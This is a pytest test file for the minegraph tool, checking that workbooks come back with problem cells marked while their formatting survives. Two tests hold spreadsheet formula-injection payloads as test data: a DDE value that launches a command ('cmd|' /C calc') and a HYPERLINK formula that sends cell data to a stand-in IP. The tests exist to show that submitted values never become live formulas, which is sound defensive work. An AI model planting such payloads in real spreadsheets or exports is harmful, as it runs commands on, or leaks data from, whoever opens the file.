"""The workbook that was handed in, with the cells to mend marked."""

from __future__ import annotations

from dataclasses import replace
from io import BytesIO
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pyoxigraph as ox
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.workbook import Workbook
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.worksheet import Worksheet

from minegraph.errors import CheckError
from minegraph.places import Place
from minegraph.validation.report import Report, Result
from minegraph.validation.report.marks import COLOURS
from test_report_findings import ROLE


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """A workbook with all that has to survive."""
    book = Workbook()
    sheet = book.worksheets[0]
    sheet.title = "Partners & 'friends'"
    for row in (["name", "money", "role"], ["Lapland", 5, "boss"], ["=danger", 6, "boss"], ["Åland", 7, "partner"]):
        sheet.append(row)
    sheet["A3"].data_type = "s"
    sheet["B1"].font = Font(bold=True)
    sheet["C2"].comment = Comment("Ask Anna.", "Eero")
    sheet.column_dimensions["A"].width = 41
    choices = DataValidation("list", formula1='"coordinator,partner"')
    choices.add("C2:C99")
    sheet.add_data_validation(choices)
    sheet.merge_cells("A6:B7")
    path = tmp_path / "partners.xlsx"
    book.save(path)
    return path


def at(cell: str, row: int, header: str = "") -> Result:
    place = Place("partners.xlsx", "Partners & 'friends'", row, cell, header)
    return replace(ROLE, focus=ox.NamedNode(f"urn:p{row}"), places=(place,))


def marked(results: list[Result], source: Path | None) -> Workbook:
    return openpyxl.load_workbook(BytesIO(Report.of(results, "minegraph", ["=1+1"]).workbook(source)))


def colour(sheet: Worksheet, cell: str) -> str:
    return str(sheet[cell].fill.start_color.rgb)[2:] if sheet[cell].fill.fill_type else ""


def test_the_cells_to_mend_are_coloured_by_severity_and_commented(source: Path) -> None:
    warning = replace(at("C", 3), severity="Warning", message="Have a look.")
    sheet = marked([at("C", 2), warning, at("C", 3)], source)["Partners & 'friends'"]
    assert [colour(sheet, cell) for cell in ("C2", "C3", "C4")] == [COLOURS["Violation"], COLOURS["Violation"], ""]
    assert sheet["C3"].comment.text == (
        f"minegraph:\nViolation: {ROLE.problem} Choose one.\n\nWarning: {ROLE.problem} Have a look."
    )


def test_the_rest_of_the_workbook_stays(source: Path) -> None:
    sheet = marked([at("C", 2)], source)["Partners & 'friends'"]
    assert [[cell.value for cell in row] for row in sheet["A1:C4"]] == [
        ["name", "money", "role"],
        ["Lapland", 5, "boss"],
        ["=danger", 6, "boss"],
        ["Åland", 7, "partner"],
    ]
    assert sheet["A3"].data_type == "s"
    assert sheet["B1"].font.bold
    assert sheet["C2"].comment.text.startswith("Ask Anna.\n\nminegraph:\nViolation: ")
    assert sheet.column_dimensions["A"].width == 41
    assert [str(choices.sqref) for choices in sheet.data_validations.dataValidation] == ["C2:C99"]


def test_what_is_missing_is_marked_under_its_header_else_at_the_first_cell_of_the_row(source: Path) -> None:
    found = [at("", 2, header="money"), at("", 4, header="colour")]
    sheet = marked(found, source)["Partners & 'friends'"]
    assert (colour(sheet, "B2"), colour(sheet, "A4")) == (COLOURS["Violation"], COLOURS["Violation"])


def test_merged_cells_are_marked_where_they_show(source: Path) -> None:
    sheet = marked([at("B", 7)], source)["Partners & 'friends'"]
    assert sheet["A6"].comment.text.startswith("minegraph:\nViolation: ")


def test_the_first_sheet_leads_to_the_cells(source: Path) -> None:
    book = marked([at("C", 2), at("C", 3)], source)
    sheet = book[book.sheetnames[0]]
    assert (book.sheetnames[0], book.active) == ("minegraph report", sheet)
    assert sheet["A1"].value == "Does not conform: 1 thing to mend in 2 places (1 violation)."
    assert [cell.hyperlink.location for cell in sheet["B"] if cell.hyperlink] == [
        "'Partners & ''friends'''!C2",
        "'Partners & ''friends'''!C3",
    ]


def test_marks_of_an_earlier_report_go(source: Path) -> None:
    source.write_bytes(Report.of([at("C", 2), at("C", 3)], "minegraph").workbook(source))
    book = marked([at("C", 3)], source)
    sheet = book["Partners & 'friends'"]
    assert book.sheetnames == ["minegraph report", "Partners & 'friends'"]
    assert (colour(sheet, "C2"), colour(sheet, "C3")) == ("", COLOURS["Violation"])
    assert sheet["C2"].comment.text == "Ask Anna."
    assert sheet["C3"].comment.text.count("Violation: ") == 1


@pytest.mark.parametrize("sign", "=+-@")
def test_what_was_handed_in_cannot_become_a_formula(source: Path, sign: str) -> None:
    evil = replace(at("C", 2), problem=f"{sign}1+cmd|' /C calc'!A0", message=f"{sign}2", value=ox.Literal(f"{sign}4"))
    book = marked([evil], source)
    assert [cell.data_type for row in book["minegraph report"] for cell in row if cell.data_type == "f"] == []
    assert f"{sign}4" in [cell.value for row in book["minegraph report"] for cell in row]


def test_formulas_come_back_as_text(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"], book.active["A2"] = "name", '=HYPERLINK("http://192.0.2.1/?"&A1)'
    book.save(path)
    cell = marked([], path)["Sheet"]["A2"]
    assert (cell.data_type, cell.value) == ("s", '=HYPERLINK("http://192.0.2.1/?"&A1)')


def test_rows_of_separated_values_come_back_marked(tmp_path: Path) -> None:
    path = tmp_path / "partners.csv"
    path.write_text("name,role\nLapland,boss\n=1+1,partner\n", encoding="utf-8")
    place = Place("partners.csv", row=2, column="B", header="role", line=2)
    book = marked([replace(ROLE, places=(place,))], path)
    assert book.sheetnames == ["minegraph report", "partners"]
    sheet = book["partners"]
    assert [[cell.value for cell in row] for row in sheet] == [
        ["name", "role"],
        ["Lapland", "boss"],
        ["=1+1", "partner"],
    ]
    assert (sheet["A3"].data_type, colour(sheet, "B2")) == ("s", COLOURS["Violation"])


def test_places_in_another_file_are_listed_but_not_marked(source: Path) -> None:
    elsewhere = replace(ROLE, places=(Place("other.xlsx", "Partners & 'friends'", 2, "C"),))
    book = marked([elsewhere], source)
    assert colour(book["Partners & 'friends'"], "C2") == ""
    assert "other.xlsx" in str([cell.value for cell in book["minegraph report"]["B"]])


def test_without_a_table_there_is_only_the_list() -> None:
    assert marked([ROLE], None).sheetnames == ["minegraph report"]
    assert marked([], Path("a.ttl")).sheetnames == ["minegraph report"]


def test_a_workbook_that_is_none_is_refused_in_a_sentence(tmp_path: Path) -> None:
    path = tmp_path / "partners.xlsx"
    path.write_bytes(b"PK nonsense")
    with pytest.raises(CheckError, match=r"partners\.xlsx"):
        marked([ROLE], path)


def test_rows_in_another_encoding_come_back_marked(tmp_path: Path) -> None:
    path = tmp_path / "partners.csv"
    path.write_bytes("name,role\nJyväskylä,boss\n".encode("windows-1252"))
    found = replace(ROLE, places=(Place("partners.csv", row=2, column="B", header="role", line=2),))
    book = openpyxl.load_workbook(BytesIO(Report.of([found], "minegraph").workbook(path, "windows-1252")))
    assert book["partners"]["A2"].value == "Jyväskylä"


def test_what_the_marking_does_not_keep_is_no_warning(source: Path, recwarn: pytest.WarningsRecorder) -> None:
    content: dict[str, bytes] = {}
    with ZipFile(source) as archive:
        content.update((name, archive.read(name)) for name in archive.namelist())
    name = "xl/worksheets/sheet1.xml"
    extension = b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"></ext></extLst></worksheet>'
    content[name] = content[name].replace(b"</worksheet>", extension)
    with ZipFile(source, "w") as archive:
        for part, data in content.items():
            archive.writestr(part, data)
    with pytest.warns(UserWarning, match="extension is not supported"):
        openpyxl.load_workbook(source)
    recwarn.clear()
    Report.of([at("C", 2)], "minegraph").workbook(source)
    assert [str(one.message) for one in recwarn] == []
